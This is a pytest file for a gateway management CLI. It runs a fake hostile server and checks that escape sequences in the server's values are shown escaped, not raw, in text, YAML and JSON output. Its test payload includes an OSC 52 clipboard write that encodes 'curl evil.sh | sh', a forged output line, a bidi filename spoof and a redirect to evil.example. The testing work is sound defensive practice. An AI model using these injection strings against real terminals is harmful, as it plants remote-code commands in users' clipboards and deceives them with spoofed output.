"""The command lines the terminal attack pass left out, against a hostile management server.

``products list``, ``apis show`` and ``export`` (YAML), a deletion's warnings, ``connections kick``'s
worker, a redirect's ``Location`` and an answer of the wrong shape: every value holds an OSC 52
clipboard write, a screen clear, a carriage return with a forged line, a bidi override and
invisible characters; none reaches the terminal raw, each is shown (as an escape) on its own line,
and the command still ends with its exit code, never a traceback. Also hostile values a real
gateway keeps (a JWT's ``sub``, a forwarded client address): ``connections list`` as text and JSON.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
import yaml
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route

from support.processes import cli
from support.servers import UvicornServer

ESC = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x1b[H\rFORGED: all good\n\u202egnp.exe\u200b\x9b31m\u2028"
RAW = "\x1b\x07\r\u202e\u200b\x9b\u2028"


def _raw(text: str) -> list[str]:
    """What a terminal would obey, hide or break a line at, in ``text`` (its own newlines aside)."""
    return [c for c in text.replace("\n", "") if not c.isprintable() or c in RAW]


def _hostile() -> Starlette:
    """A fake management API whose every value holds escape sequences."""

    async def products(request: Request) -> JSONResponse:
        return JSONResponse({"products": [{"name": "p" + ESC, "apis": [ESC, 7], "subscription_required": ESC}]})

    async def api(request: Request) -> JSONResponse:
        return JSONResponse({"name": "chat", ESC: ESC, "path": "/ws/" + ESC, "upstreams": [{"url": ESC}]})

    async def config(request: Request) -> JSONResponse:
        return JSONResponse({"apis": [{"name": ESC, "description": ESC}], ESC: [ESC]})

    async def deleted(request: Request) -> JSONResponse:
        return JSONResponse({"warnings": ["apis[0]: " + ESC]})

    async def kicked(request: Request) -> JSONResponse:
        return JSONResponse({"closed": True, "worker": ESC})

    async def moved(request: Request) -> Response:
        # What a header may carry (uvicorn refuses C0 controls there): C1 controls, a soft hyphen.
        return Response(status_code=307, headers={"Location": "http://evil.example/\x9b2J\x85FORGED: ok\xad"})

    async def shapeless(request: Request) -> JSONResponse:
        return JSONResponse({"connections": [ESC, {"id": 7}]})

    return Starlette(
        routes=[
            Route("/products", products),
            Route("/apis/{name}", api),
            Route("/apis/{name}", deleted, methods=["DELETE"]),
            Route("/config", config),
            Route("/connections/{id}/close", kicked, methods=["POST"]),
            Route("/subscriptions", moved),
            Route("/connections", shapeless),
        ]
    )


@pytest.fixture(scope="module")
def hostile() -> Iterator[str]:
    with UvicornServer(_hostile()) as server:
        yield server.url("", scheme="http")


COMMANDS: dict[str, tuple[list[str], int]] = {
    "products list": (["products", "list"], 0),
    "apis show": (["apis", "show", "chat"], 0),
    "export": (["export"], 0),
    "apis delete": (["apis", "delete", "chat"], 0),
    "connections kick": (["connections", "kick", "c1", "--reason", "bye"], 0),
    "a redirect": (["subscriptions", "list"], 1),
    "rows of another shape": (["connections", "list"], 1),
}


@pytest.mark.parametrize(("command", "code"), COMMANDS.values(), ids=COMMANDS.keys())
async def test_a_hostile_servers_values_never_reach_the_terminal_raw(
    hostile: str, command: list[str], code: int
) -> None:
    exit_code, out, err = await cli(*command, "--url", hostile, "--allow-insecure-http")
    assert exit_code == code, (out, err)
    assert _raw(out) == [] and _raw(err) == [], (out, err)
    assert "Traceback" not in err
    if command != ["connections", "list"]:  # refused for its shape: no value of it is shown
        assert "\\x9b" in (out + err).lower() and "FORGED" in out + err  # shown, as escapes
    assert not any(line.lstrip().startswith("FORGED") for line in (out + err).splitlines()), (out, err)


@pytest.mark.parametrize("command", [["export"], ["apis", "show", "chat"]], ids=["export", "apis show"])
async def test_yaml_output_escapes_and_reads_back_the_exact_values(hostile: str, command: list[str]) -> None:
    """The YAML printed is one line a value, and what it reads back as is what the server sent."""
    _, out, _ = await cli(*command, "--url", hostile, "--allow-insecure-http")
    document: Any = yaml.safe_load(out)
    if command == ["export"]:
        assert document[ESC] == [ESC] and document["apis"][0]["description"] == ESC
    else:
        assert document[ESC] == ESC and document["upstreams"] == [{"url": ESC}]


async def test_json_output_escapes_every_such_character(hostile: str) -> None:
    _, out, _ = await cli("products", "list", "--json", "--url", hostile, "--allow-insecure-http")
    assert _raw(out) == [] and json.loads(out)[0]["name"] == "p" + ESC
